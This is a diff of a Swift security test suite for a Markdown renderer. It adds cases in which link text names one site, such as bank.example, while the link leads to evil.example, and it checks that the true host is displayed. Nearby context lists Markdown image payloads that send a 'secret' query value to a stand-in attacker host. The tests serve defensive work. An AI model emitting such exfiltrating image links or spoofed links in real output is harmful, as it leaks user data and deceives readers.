@@ -109,6 +109,21 @@ struct AttackTests {
   }
 
   @Test(arguments: [
+    ("[https://bank.example](https://evil.example/bank.example)", "evil.example"),
+    ("[www.bank.example/a](https://www.bank.example@evil.example)", "evil.example"),
+    ("[bank.example](https://bank.example.evil.example)", "bank.example.evil.example"),
+    ("[bank.example](https://www.bank.example/a)", nil), ("[read this.](https://a.example)", nil),
+    ("[Version 1.2](https://a.example)", nil), ("<https://a.example>", nil),
+  ])
+  func `A6: a link whose text names another place says where it leads`(text: String, host: String?)
+    async throws
+  {
+    let page = try await page(saying: text)
+    #expect(page.dangers.isEmpty)
+    #expect(page.first("bdi", class: "host")?.text == host)
+  }
+
+  @Test(arguments: [
     "![](https://evil.example/?q=secret)", "[![x](https://evil.example/?q=secret)](https://a.b)",
     "![x][1]\n\n[1]: https://evil.example/?q=secret", "![](file:///x?q=secret)",
   ])
